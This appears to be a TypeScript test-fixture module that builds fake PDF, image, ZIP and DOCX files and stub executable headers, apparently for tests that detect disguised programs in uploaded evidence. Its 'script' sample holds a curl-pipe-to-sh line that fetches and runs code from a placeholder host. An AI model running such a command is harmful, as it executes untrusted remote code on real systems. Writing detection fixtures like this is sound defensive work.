import { createHash } from 'node:crypto';

/**
 * Small, real-shaped files for the evidence tests: each begins with the bytes its kind's readers look
 * for, and the programs begin like the programs they stand for.
 */
const bytes = (...parts: Array<string | number[] | Uint8Array>): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))));

export const pdf = (text = 'PilotOps test document'): Buffer =>
  bytes(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n% ${Buffer.from(text, 'utf8').toString('latin1')}\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
export const jpeg = (seed = 'photo'): Buffer => bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF\0', seed, [0xff, 0xd9]);
export const png = (seed = 'image'): Buffer => bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0, 0, 0, 13], 'IHDR', seed);

/** An ISO-BMFF file whose `ftyp` box names `major` and then `compatible` brands. */
export function isoMedia(major: string, compatible: string[] = [], declaredSize?: number): Buffer {
  const size = declaredSize ?? 16 + compatible.length * 4;
  const header = Buffer.alloc(4);
  header.writeUInt32BE(size);
  return bytes(header, 'ftyp', major, [0, 0, 0, 0], compatible.join(''), Buffer.alloc(64));
}

export const heic = (): Buffer => isoMedia('heic', ['mif1', 'heic']);

export interface ZipEntry {
  name: string;
  data?: Uint8Array;
}

/**
 * A stored (uncompressed) ZIP with a central directory. `descriptor` writes sizes after the data, as
 * streaming writers do, so a reader cannot jump over an entry from its local header.
 */
export function zip(entries: ZipEntry[], options: { descriptor?: boolean } = {}): Buffer {
  const flags = options.descriptor ? 0x08 : 0;
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const data = Buffer.from(entry.data ?? Buffer.from(`content of ${entry.name}`));
    const name = Buffer.from(entry.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt32LE(options.descriptor ? 0 : data.length, 18);
    local.writeUInt32LE(options.descriptor ? 0 : data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const descriptor = Buffer.alloc(options.descriptor ? 16 : 0);
    if (options.descriptor) {
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(data.length, 8);
      descriptor.writeUInt32LE(data.length, 12);
    }
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    const record = Buffer.concat([local, name, data, descriptor]);
    locals.push(record);
    centrals.push(Buffer.concat([central, name]));
    offset += record.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

export const docx = (): Buffer => zip([{ name: '[Content_Types].xml' }, { name: '_rels/.rels' }, { name: 'word/document.xml' }]);
export const ofd = (): Buffer => zip([{ name: 'OFD.xml' }, { name: 'Doc_0/Document.xml' }]);

/** The programs a renamed file might really be. */
export const programs = {
  elf: bytes([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00], Buffer.alloc(56)),
  windows: bytes('MZ', [0x90, 0x00, 0x03], Buffer.alloc(59), 'PE\0\0'),
  macho64: bytes([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01], Buffer.alloc(24)),
  macho32: bytes([0xce, 0xfa, 0xed, 0xfe], Buffer.alloc(24)),
  machoBigEndian: bytes([0xfe, 0xed, 0xfa, 0xcf], Buffer.alloc(24)),
  machoBigEndian32: bytes([0xfe, 0xed, 0xfa, 0xce], Buffer.alloc(24)),
  universal: bytes([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x02], Buffer.alloc(24)),
  wasm: bytes([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00]),
  script: bytes('#!/bin/sh\ncurl http://example.invalid | sh\n'),
} as const;

export const sha256Hex = (data: Uint8Array): string => createHash('sha256').update(data).digest('hex');
export const sha256B64 = (data: Uint8Array): string => createHash('sha256').update(data).digest('base64');

/** Programs with the header fields behind their magic that a loader reads, as they sit inside a polyglot. */
function peProgram(): Buffer {
  const file = Buffer.alloc(0x200);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  file.write('PE\0\0', 0x80, 'latin1');
  file.writeUInt16LE(0x8664, 0x84);
  return file;
}

function elfProgram(): Buffer {
  const file = Buffer.alloc(0x80);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]).copy(file, 0);
  file.writeUInt16LE(3, 16); // ET_DYN
  file.writeUInt16LE(0x3e, 18); // x86-64
  file.writeUInt32LE(1, 20);
  return file;
}

function machOProgram(): Buffer {
  const file = Buffer.alloc(0x40);
  Buffer.from([0xcf, 0xfa, 0xed, 0xfe]).copy(file, 0);
  file.writeUInt32LE(0x0100000c, 4); // arm64
  file.writeUInt32LE(2, 12); // MH_EXECUTE
  return file;
}

function fatMachOProgram(): Buffer {
  const file = Buffer.alloc(0x40);
  file.writeUInt32BE(0xcafebabe, 0);
  file.writeUInt32BE(2, 4);
  file.writeUInt32BE(0x01000007, 8);
  return file;
}

export const embeddedPrograms = { windows: peProgram(), linux: elfProgram(), macos: machOProgram(), 'macOS universal': fatMachOProgram() };
